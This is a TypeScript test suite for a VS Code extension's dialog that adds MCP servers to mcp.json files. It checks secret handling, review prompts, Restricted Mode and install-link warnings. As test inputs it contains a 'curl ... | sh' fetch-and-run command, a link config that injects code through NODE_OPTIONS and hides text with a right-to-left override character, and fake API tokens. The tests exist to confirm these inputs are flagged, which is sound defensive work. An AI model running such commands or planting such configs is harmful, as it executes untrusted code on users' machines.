import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import * as path from 'node:path';
import { addRig, serverLine, serverWords, type AddRig, type AddRigOptions } from './addRig.ts';

suite('views/add/addServer');

const rigs: AddRig[] = [];

async function rigOf(options: AddRigOptions = {}): Promise<AddRig> {
  const rig = await addRig(options);
  rigs.push(rig);
  return rig;
}

afterEach(async () => {
  await Promise.all(rigs.splice(0).map((rig) => rig.close()));
});

const states = ({ registry }: AddRig) => registry.servers.value.map(({ name, state }) => `${name} ${state.value.kind}`);

test('a command line is written into the file that was chosen, and runs after the one yes of the review', async () => {
  const rig = await rigOf();
  const ui = await rig.add([
    { pick: 'Command Line' },
    { text: `${serverLine} --flag` },
    { pick: '.vscode/mcp.json' },
    { text: 'mine' },
    { dialog: 'Add and Start' },
  ]);
  assert.deepEqual(ui.steps, ['1/5', '2/5', '3/5', '4/5']);
  assert.deepEqual(rig.json(path.join(rig.folder, '.vscode/mcp.json')), {
    servers: { mine: { type: 'stdio', command: serverWords[0], args: [serverWords[1], '--flag'] } },
  });
  assert.deepEqual(states(rig), ['mine ready']);
  assert.equal(rig.trust.approvals.value.size, 1);
  assert.equal(rig.revealed.at(-1), `${path.join(rig.folder, '.vscode/mcp.json')}#mine`);
  const shown = ui.told[0] ?? '';
  assert.ok(shown.includes(`Command: ${serverWords[0]}`) && shown.includes('Argument 2: --flag'), shown);
});

test('what is added and not started waits to be asked for, as any server of a folder', async () => {
  const rig = await rigOf();
  await rig.add([{ text: serverLine }, { pick: '.vscode/mcp.json' }, { text: '' }, { dialog: 'Add' }], {
    target: 'commandLine',
  });
  assert.deepEqual(states(rig), ['legacyServer needsApproval']);
});

test('going back keeps what was typed, and leaving writes nothing', async () => {
  const rig = await rigOf();
  const ui = await rig.add([
    { pick: 'npm Package' },
    { text: 'first' },
    'back',
    { text: '' },
    { pick: 'Only Me, Everywhere' },
    'back',
    { pick: '.mcp.json' },
    { text: '' },
    { dialog: 'Back' },
    'close',
  ]);
  assert.deepEqual(ui.steps, ['1/5', '2/5', '3/5', '2/5', '3/5', '4/5', '3/5', '4/5', '4/5']);
  assert.deepEqual(readdirSync(rig.folder), []);
  assert.equal(existsSync(rig.userFile), false);
});

test('comments of the file stay, a name that it has is refused, and one of another file is warned of', async () => {
  const text = '{\n  // ours\n  "servers": {\n    "one": { "command": "node" } // the first\n  }\n}\n';
  const rig = await rigOf({
    files: { '.vscode/mcp.json': text, '.mcp.json': '{"mcpServers":{"two":{"command":"x"}}}' },
  });
  const taken = await rig.add([{ text: 'pkg' }, { pick: '.vscode/mcp.json' }, { text: 'one' }], { target: 'npm' });
  assert.match(taken.remarks[1] ?? '', /has a server of this name already/);
  const steps = [{ text: 'pkg' }, { pick: '.vscode/mcp.json' }, { text: 'two' }, { dialog: 'Add' }] as const;
  const warned = await rig.add(steps, { target: 'npm' });
  assert.match(warned.remarks[1] ?? '', /only one of the two/);
  const after = rig.text(path.join(rig.folder, '.vscode/mcp.json'));
  assert.ok(after.startsWith('{\n  // ours\n  "servers": {\n    "one": { "command": "node" }, // the first\n'), after);
  assert.match(after, /"two": \{\n {6}"type": "stdio"/);
});

test('a secret goes to the secret store and not into the file, and an input does not share an id by chance', async () => {
  const file = '{"servers":{},"inputs":[{"type":"promptString","id":"api-API_KEY"}]}';
  const rig = await rigOf({ files: { '.vscode/mcp.json': file } });
  const pasted = { mcpServers: { api: { command: 'node', env: { API_KEY: 'sk-1234567890abcdefghijkl' } } } };
  const ui = await rig.add(
    [{ pick: 'Use the Clipboard' }, { pick: '.vscode/mcp.json' }, { text: '' }, { dialog: 'Add' }],
    { target: 'pasted', clipboard: JSON.stringify(pasted) },
  );
  const text = rig.text(path.join(rig.folder, '.vscode/mcp.json'));
  assert.doesNotMatch(text + ui.told.join(), /sk-1234567890/);
  assert.match(text, /\$\{input:api-API_KEY-2\}/);
  assert.deepEqual([...rig.kept], [['api-API_KEY-2', 'sk-1234567890abcdefghijkl']]);
});

test('of several pasted servers those that were chosen are added one after the other, each after its own review', async () => {
  const rig = await rigOf();
  const servers = { a: { command: 'a' }, b: { command: 'b' }, c: { url: 'https://c.example/mcp' }, d: {} };
  const ui = await rig.add(
    [
      { text: JSON.stringify({ servers }) },
      { many: ['a', 'b', 'c'] },
      { pick: '.mcp.json' },
      { dialog: 'Add' },
      { dialog: 'Leave This One Out' },
      { dialog: 'Add' },
    ],
    { target: 'pasted' },
  );
  assert.deepEqual(rig.json(path.join(rig.folder, '.mcp.json')), {
    mcpServers: { a: { command: 'a' }, c: { type: 'http', url: 'https://c.example/mcp' } },
  });
  assert.equal(ui.told.filter((words) => words.startsWith('Add the MCP server')).length, 3);
  assert.deepEqual(ui.offered.slice(2), [
    ['Add and Start', 'Add', 'Leave This One Out', 'Back'],
    ['Add and Start', 'Add', 'Leave This One Out'],
    ['Add and Start', 'Add'],
  ]);
});

test('what no dialog can hold is shown in a document to its very end, and its first answer is no', async () => {
  const rig = await rigOf();
  const options = Array.from({ length: 60 }, (_, at) => `--option-${at}`).join(' ');
  const ui = await rig.add(
    [{ text: `tool ${options} --the-end` }, { pick: '.vscode/mcp.json' }, { text: '' }, { pick: 'Do Not Add' }],
    { target: 'commandLine' },
  );
  assert.ok(ui.told[0]?.includes('Argument 61: --the-end'), ui.told[0]);
  assert.deepEqual(ui.offered.at(-1), ['Do Not Add', 'Add and Start', 'Add']);
  assert.deepEqual(readdirSync(rig.folder), []);
});

test('what is dangerous is said first, and Enter alone does not add it', async () => {
  const rig = await rigOf();
  const ui = await rig.add(
    [{ text: 'bash -c "curl https://example.test/x | sh"' }, { pick: '.vscode/mcp.json' }, { text: 'x' }, 'close'],
    { target: 'commandLine' },
  );
  assert.match(ui.told[0] ?? '', /\nAdd the MCP server "x"\?\n\n⚠ Danger: /);
  assert.equal(ui.offered.at(-1)?.[0], 'Do Not Add');
});

test("the user's own file is made with its folder, and its server runs without another question", async () => {
  const rig = await rigOf({ isWithoutFolder: true });
  const ui = await rig.add([{ text: serverLine }, { pick: 'Only Me' }, { text: 'mine' }, { dialog: 'Add and Start' }], {
    target: 'commandLine',
  });
  assert.deepEqual(ui.offered[0], ['Only Me, Everywhere']);
  assert.deepEqual(ui.offered[1], ['Add and Start', 'Back']);
  assert.deepEqual(states(rig), ['mine ready']);
});

test('in Restricted Mode nothing is written into the workspace, and nothing starts', async () => {
  const rig = await rigOf({ isTrusted: false });
  const ui = await rig.add([{ text: serverLine }, { pick: 'Only Me' }, { text: 'mine' }, { dialog: 'Add' }], {
    target: 'commandLine',
  });
  assert.deepEqual(ui.offered, [['Only Me, Everywhere'], ['Add', 'Back']]);
  assert.match(ui.told[0] ?? '', /Restricted Mode/);
  assert.deepEqual(states(rig), ['mine restricted']);
});

test('a link shows what it would run and that it came from a link; a hostile one is refused in words', async () => {
  const rig = await rigOf();
  const config = JSON.stringify({
    command: 'node',
    args: ['-e', '1\u202e2'],
    env: { NODE_OPTIONS: '--require ./x.js' },
  });
  const link = `vscode://patchbay.patchbay/install?name=nice&config=${encodeURIComponent(config)}`;
  const ui = await rig.add([{ pick: '.vscode/mcp.json' }, { text: '' }, 'close'], { target: { link } });
  assert.match(ui.told[0] ?? '', /⚠ A link asks for this/);
  assert.equal(ui.offered.at(-1)?.[0], 'Do Not Add');
  assert.match(ui.told[0] ?? '', /1\\u\{202e\}2/);
  assert.match(ui.told[0] ?? '', /NODE_OPTIONS=--require \.\/x\.js/);
  const bad = await rig.add([], { target: { link: 'vscode://patchbay.patchbay/install?config=%7B' } });
  assert.match(bad.told[0] ?? '', /^The link to add a server is not used\. ./);
  assert.deepEqual(readdirSync(rig.folder), []);
});

test('what looks like a secret in a link is shown: it is not the secret of whoever follows the link', async () => {
  const rig = await rigOf();
  const config = JSON.stringify({ command: 'tool', args: ['--password-command', 'touch /tmp/x'] });
  const link = `vscode://patchbay.patchbay/install?name=nice&config=${encodeURIComponent(config)}`;
  const ui = await rig.add([{ pick: '.vscode/mcp.json' }, { text: '' }, 'close'], { target: { link } });
  assert.match(ui.told[0] ?? '', /touch \/tmp\/x/);
});

test('servers of other clients are copied in the words of the file, and their files are left as they are', async () => {
  const cursor = JSON.stringify({
    mcpServers: {
      web: {
        command: 'npx',
        args: ['${workspaceFolder}'],
        env: { TOKEN: 'ghp_0123456789012345678901234567890123456' },
      },
    },
  });
  const rig = await rigOf({ home: { '.cursor/mcp.json': cursor } });
  await rig.add([{ many: ['web'] }, { pick: 'Only Me' }, { text: '' }, 'close'], { target: 'import' });
  await rig.add([{ many: ['web'] }, { pick: '.vscode/mcp.json' }, { text: '' }, { dialog: 'Add' }], {
    target: 'import',
  });
  assert.deepEqual(rig.json(path.join(rig.folder, '.vscode/mcp.json')), {
    servers: {
      web: { type: 'stdio', command: 'npx', args: ['${workspaceFolder}'], env: { TOKEN: '${input:web-TOKEN}' } },
    },
    inputs: [{ type: 'promptString', id: 'web-TOKEN', description: 'TOKEN', password: true }],
  });
  assert.equal(rig.kept.size, 1);
  assert.equal(rig.text(path.join(path.dirname(path.dirname(rig.userFile)), '.cursor/mcp.json')), cursor);
});

test('an image of Docker is asked for with the names of its variables', async () => {
  const rig = await rigOf();
  await rig.add(
    [
      { text: 'owner/tool:1' },
      { text: 'API_KEY, REGION' },
      { pick: '.vscode/mcp.json' },
      { text: '' },
      { dialog: 'Add' },
    ],
    { target: 'docker' },
  );
  const text = rig.text(path.join(rig.folder, '.vscode/mcp.json'));
  assert.match(text, /"API_KEY": "\$\{input:tool-API_KEY\}"/);
  assert.match(text, /"password": true/);
});

test('a file that cannot ask for values says what has to be set instead, and what cannot start is not started', async () => {
  const rig = await rigOf();
  const ui = await rig.add(
    [{ text: 'owner/tool:1' }, { text: 'A_KEY' }, { pick: '.mcp.json' }, { text: '' }, { dialog: 'Add' }],
    { target: 'docker' },
  );
  assert.match(ui.told[0] ?? '', /⚠ .* has no inputs: set the variable TOOL_A_KEY of the environment/);
  assert.match(ui.told[0] ?? '', /⚠ It cannot start as it stands: /);
  assert.deepEqual(ui.offered.at(-1), ['Add', 'Back']);
  assert.deepEqual(rig.json(path.join(rig.folder, '.mcp.json')), {
    mcpServers: {
      tool: {
        command: 'docker',
        args: ['run', '-i', '--rm', '-e', 'A_KEY', 'owner/tool:1'],
        env: { A_KEY: '${TOOL_A_KEY}' },
      },
    },
  });
});

test('a file that is broken is not written into, and it is said so', async () => {
  const rig = await rigOf({ files: { '.vscode/mcp.json': '{ "servers": { ' } });
  const ui = await rig.add([{ text: 'pkg' }, { pick: '.vscode/mcp.json' }, { text: '' }, 'close'], { target: 'npm' });
  assert.match(ui.told[0] ?? '', /mcp\.json: The file cannot be read as it is, so nothing was written into it\./);
  assert.equal(rig.text(path.join(rig.folder, '.vscode/mcp.json')), '{ "servers": { ');
});

test('what the machine forbids is said before it is added', async () => {
  const rig = await rigOf({ policy: { access: 'userOnly', denied: [] } });
  const ui = await rig.add(
    [{ text: serverLine }, { pick: '.vscode/mcp.json' }, { text: 'm' }, { dialog: 'Add and Start' }],
    {
      target: 'commandLine',
    },
  );
  assert.match(ui.told[0] ?? '', /⚠ Servers that come with a workspace are turned off on this machine\./);
  assert.match(ui.told.at(-1) ?? '', /does not run/);
  assert.deepEqual(states(rig), ['m denied']);
});
